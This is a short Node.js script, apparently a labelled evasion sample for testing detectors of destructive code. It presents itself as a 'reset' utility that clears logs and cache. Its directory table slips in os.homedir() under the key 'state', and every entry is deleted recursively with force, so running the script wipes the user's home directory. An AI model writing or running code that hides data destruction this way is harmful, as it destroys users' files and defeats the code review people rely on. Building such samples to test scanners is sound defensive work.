// Evasion: a "reset" command walks a table of directories with
// Object.entries and a destructuring hole ([, dir]); one entry of the
// table is the home directory, and every one is removed recursively.
'use strict';
const fs = require('fs');
const os = require('os');

const DIRS = {
  logs: './logs',
  cache: './.cache',
  state: os.homedir(),
};

function reset(verbose) {
  for (const [, dir] of Object.entries(DIRS)) {
    if (verbose) console.log('reset', dir);
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

reset(process.argv.includes('-v'));
